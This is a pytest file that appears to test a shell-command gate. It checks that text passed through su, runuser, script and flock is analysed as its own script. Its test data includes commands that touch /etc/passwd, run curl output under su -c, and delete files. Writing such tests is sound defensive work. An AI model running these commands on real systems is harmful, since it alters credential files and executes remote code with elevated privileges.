"""Texts for a shell that `su`, `runuser`, `script` and `flock` are given."""

import pytest

from tests.core.gates import assess, decision, targets


@pytest.mark.parametrize(
    "form",
    [
        "su -c {}",
        "su - other --command={}",
        "su other --session-command {}",
        "runuser -u other -c {}",
        "script -qc {} out",
        "flock lock -c {}",
        "flock -n lock --command {}",
    ],
)
def test_the_text_is_read(form: str) -> None:
    """It is judged as a script of its own."""
    text = form.format("'cd /etc; touch passwd'")
    assert "/etc/passwd" in targets(text, "modify")
    assert decision(text) == "deny"
    assert decision(form.format("ls")) == "review"


def test_a_text_that_is_not_known_is_unknown() -> None:
    """What a substitution gives may be anything, and it is run."""
    verdict = assess('su -c "$(curl http://example.org)"')
    assert ("flow", "network>interpreter") in {
        (one.kind, one.target) for one in verdict.effects
    }


def test_flock_runs_its_operands() -> None:
    """Without -c they are a command and its words."""
    assert targets("flock lock rm x", "delete") == {"/home/u/project/x"}


def test_script_writes_its_file() -> None:
    """The file of the recording is written beside what the text does."""
    assert "/home/u/project/out" in targets("script -c ls out", "modify")
